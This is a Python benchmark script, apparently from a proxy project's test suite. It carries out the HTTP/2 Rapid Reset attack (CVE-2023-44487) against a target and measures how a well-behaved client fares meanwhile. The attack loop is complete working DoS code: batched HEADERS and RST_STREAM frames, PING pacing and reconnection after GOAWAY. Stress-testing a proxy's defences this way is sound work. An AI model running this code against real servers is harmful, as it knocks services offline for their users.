#!/usr/bin/python3
"""Rapid reset (CVE-2023-44487) against a proxy serving HTTP/2, with a well-behaved client next to
it (the h2streams section of bench/run.sh, issue 13).

  h2_rapid_reset.py --target HOST:PORT [--streams 10000] [--batch 100] [--window 2]
                    [--deadline 60] [--max-conns 5000] [--watch 1.0]
  h2_rapid_reset.py good --target HOST:PORT     (the well-behaved client; started by the above)

The attacker speaks h2c with prior knowledge over plain sockets, frames built by hand
(bench/h2_wire.py): the preface and an empty SETTINGS, then batches of --batch streams in one
write each, every stream a HEADERS frame (GET /attack, END_STREAM, a static-table header block)
followed at once by RST_STREAM(CANCEL) (stream ids 1, 3, 5...), and after each batch a PING.
It keeps --window batches in flight: the next batch goes as soon as the oldest PING is
acknowledged, i.e. as fast as the proxy takes them (a proxy processes frames in order, so the
ACK says it has seen the whole batch; written blindly, 10,000 streams are only ~350 KB that
would sit in the socket buffers while the attacker had long finished, and a GOAWAY would make
the proxy skip most of them unseen). SETTINGS and PING from the proxy are acknowledged.
On GOAWAY (sluice sends ENHANCE_YOUR_CALM past its reset budget), on the connection's close or
after 5 s without an ACK (a stall, named on stderr) it opens a new connection and goes on,
until --streams streams were taken over all connections (or --deadline, or --max-conns
connections). Taken: acknowledged by a PING's ACK, or at or below a GOAWAY's last stream id;
the streams written past it are counted apart (written).

The well-behaved client (a child process, started first, on its own connection) sends GET /good
and waits for the whole response (2 s at most), one after the other on one connection
(reconnecting if the proxy closes it); its attempts and successes are counted from the moment
the attack starts until the attack has ended and at least --watch seconds have passed since it
started. The attack waits for its first success before it begins (at most 10 s).

The upstream (bench/h2_count_backend.py) counts the /attack requests that reached it; bench/run.sh
reads that count and the proxy's memory around this probe.

Prints one line: "<streams_taken> <connections> <seconds> <good_ok> <good_attempts> <goaways>
<streams_written>" where goaways lists the GOAWAY codes received as CODE=count
(comma-separated; "none" counts the connections that ended without one).
"""
import argparse
import os
import select
import signal
import socket
import struct
import subprocess
import sys
import time

sys.dont_write_bytecode = True  # no bench/__pycache__ from importing h2_wire
import h2_wire  # noqa: E402


def read_frames(sock, state, wait):
    """Reads once (waiting at most `wait` s) and handles what came: SETTINGS and PING are
    acknowledged, our PINGs' ACKs are noted in state["acked"] (the highest sequence number),
    GOAWAY in state["goaway"] as (last stream id, code). False once the connection is gone."""
    sock.settimeout(wait)
    try:
        data = sock.recv(65536)
    except socket.timeout:
        return True
    except OSError:
        return False
    if not data:
        return False
    buf = state["left"] + data
    off, end = 0, len(buf)
    out = []
    while end - off >= 9:
        hi, lo, ftype, flags, _sid = h2_wire.HDR.unpack_from(buf, off)
        length = (hi << 8) | lo
        if end - off - 9 < length:
            break
        p0, off = off + 9, off + 9 + length
        if ftype == h2_wire.SETTINGS and not flags & h2_wire.F_ACK:
            out.append(h2_wire.frame(h2_wire.SETTINGS, h2_wire.F_ACK, 0))
        elif ftype == h2_wire.PING:
            if flags & h2_wire.F_ACK:
                state["acked"] = max(state["acked"], struct.unpack_from(">Q", buf, p0)[0])
            else:
                out.append(h2_wire.frame(h2_wire.PING, h2_wire.F_ACK, 0, buf[p0:off]))
        elif ftype == h2_wire.GOAWAY:
            last, code = struct.unpack_from(">II", buf, p0)
            state["goaway"] = (last & 0x7FFFFFFF, code)
    state["left"] = buf[off:]
    if out:
        sock.settimeout(5)
        try:
            sock.sendall(b"".join(out))
        except OSError:
            return False
    return True


def attack(a):
    """Returns (streams taken, streams written, connections, GOAWAY codes, stalls)."""
    host, port = h2_wire.parse_target(a.target)
    block = h2_wire.request_block("/attack")
    flags = h2_wire.F_END_HEADERS | h2_wire.F_END_STREAM
    deadline = time.monotonic() + a.deadline
    taken, written, conns, failures, stalls = 0, 0, 0, 0, 0
    goaways = {}
    while taken < a.streams and time.monotonic() < deadline and conns < a.max_conns:
        try:
            sock = socket.create_connection((host, port), timeout=5)
        except OSError as e:
            failures += 1
            if failures > 100:
                print("h2_rapid_reset: connect: %s (%d failures)" % (e, failures), file=sys.stderr)
                break
            time.sleep(0.01)
            continue
        conns += 1
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        state = {"left": b"", "goaway": None, "acked": 0}
        sid, seq = 1, 0
        inflight = []           # (PING sequence number, first stream id, streams) per batch
        alive = True
        try:
            sock.sendall(h2_wire.PREFACE + h2_wire.frame(h2_wire.SETTINGS, 0, 0))
            while alive and time.monotonic() < deadline:
                # Up to --window batches in flight, each followed by a PING.
                pending = sum(b[2] for b in inflight)
                while len(inflight) < a.window and taken + pending < a.streams:
                    n = min(a.batch, a.streams - taken - pending)
                    out = []
                    for k in range(n):
                        out.append(h2_wire.frame(h2_wire.HEADERS, flags, sid + 2 * k, block))
                        out.append(h2_wire.rst_stream(sid + 2 * k, h2_wire.CANCEL))
                    seq += 1
                    out.append(h2_wire.frame(h2_wire.PING, 0, 0, struct.pack(">Q", seq)))
                    sock.settimeout(5)
                    sock.sendall(b"".join(out))
                    inflight.append((seq, sid, n))
                    sid += 2 * n
                    written += n
                    pending += n
                if not inflight:
                    break
                t_wait = time.monotonic()
                alive = read_frames(sock, state, min(5, max(0.01, deadline - t_wait)))
                while inflight and inflight[0][0] <= state["acked"]:
                    taken += inflight.pop(0)[2]
                if state["goaway"] is not None:
                    break
                if alive and time.monotonic() - t_wait >= 5:
                    stalls += 1     # no ACK for 5 s: the proxy stopped reading us
                    break
        except OSError:
            pass  # reset, broken pipe, or a write stuck for 5 s: a new connection
        if state["goaway"] is not None:
            last = state["goaway"][0]
            for _, first, n in inflight:   # the streams the proxy saw before its GOAWAY
                taken += max(0, min(n, (last - first) // 2 + 1))
        code = state["goaway"][1] if state["goaway"] is not None else None
        name = h2_wire.error_name(code) if code is not None else "none"
        goaways[name] = goaways.get(name, 0) + 1
        sock.close()
    return taken, written, conns, goaways, stalls


def good(a):
    """The well-behaved client: one request at a time; counts restart at SIGUSR1; SIGTERM ends
    it (prints "<ok> <attempts>"). Bounded by its own deadline."""
    flags = {"stop": False}
    counts = {"ok": 0, "attempts": 0}

    def restart(*_):  # an attempt under way counts in the new window
        counts["ok"] = counts["attempts"] = 0

    signal.signal(signal.SIGUSR1, restart)
    signal.signal(signal.SIGTERM, lambda *_: flags.update(stop=True))
    host, port = h2_wire.parse_target(a.target)
    end = time.monotonic() + a.deadline
    conn = None
    ready = False
    while not flags["stop"] and time.monotonic() < end:
        ok = False
        try:
            if conn is None:
                conn = h2_wire.Conn(host, port, timeout=2)
            s = conn.request("/good")
            limit = time.monotonic() + 2
            while not s.ended and s.reset is None and time.monotonic() < limit:
                conn.pump(limit, max_wait=0.1)
                if conn.goaway is not None and conn.goaway[0] < s.id:
                    break
            if s.ended and s.status == 200:
                ok = True
                if not ready:
                    print("ready", flush=True)
                    ready = True
            if conn.goaway is not None or not s.ended:
                conn.close()
                conn = None
        except (h2_wire.ConnectionGone, OSError):
            if conn is not None:
                conn.close()
            conn = None
            time.sleep(0.01)
        counts["attempts"] += 1   # counted when it ends: a restart never sees ok > attempts
        counts["ok"] += ok
    if conn is not None:
        conn.close()
    print("%d %d" % (counts["ok"], counts["attempts"]), flush=True)
    return 0


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", nargs="?", default="attack", choices=("attack", "good"))
    ap.add_argument("--target", required=True)
    ap.add_argument("--streams", type=int, default=10000)
    ap.add_argument("--batch", type=int, default=100)
    ap.add_argument("--window", type=int, default=2, help="batches in flight (unacknowledged)")
    ap.add_argument("--deadline", type=float, default=60)
    ap.add_argument("--max-conns", type=int, default=5000)
    ap.add_argument("--watch", type=float, default=1.0)
    a = ap.parse_args()
    if a.mode == "good":
        return good(a)
    child = subprocess.Popen([sys.executable, os.path.abspath(__file__), "good", "--target",
                              a.target, "--deadline", str(a.deadline + 30)],
                             stdout=subprocess.PIPE, text=True)
    try:
        r, _, _ = select.select([child.stdout], [], [], 10)
        if not r or child.stdout.readline().strip() != "ready":
            print("h2_rapid_reset: the well-behaved client got no answer before the attack",
                  file=sys.stderr)
        child.send_signal(signal.SIGUSR1)
        t0 = time.monotonic()
        taken, written, conns, goaways, stalls = attack(a)
        secs = time.monotonic() - t0
        rest = a.watch - (time.monotonic() - t0)
        if rest > 0:
            time.sleep(rest)
        child.send_signal(signal.SIGTERM)
        try:
            out, _ = child.communicate(timeout=10)
        except subprocess.TimeoutExpired:
            child.kill()
            out, _ = child.communicate()
    finally:
        if child.poll() is None:
            child.kill()
            child.wait()
    line = out.strip().splitlines()[-1].split() if out.strip() else ["0", "0"]
    ok, attempts = (int(x) for x in line[-2:]) if len(line) >= 2 else (0, 0)
    codes = ",".join("%s=%d" % kv for kv in sorted(goaways.items())) or "-"
    if stalls:
        print("h2_rapid_reset: %d connection(s) went 5 s without an answer to a PING" % stalls,
              file=sys.stderr)
    print("%d %d %.2f %d %d %s %d" % (taken, conns, secs, ok, attempts, codes, written))
    return 0 if taken >= a.streams else 1


if __name__ == "__main__":
    sys.exit(main())
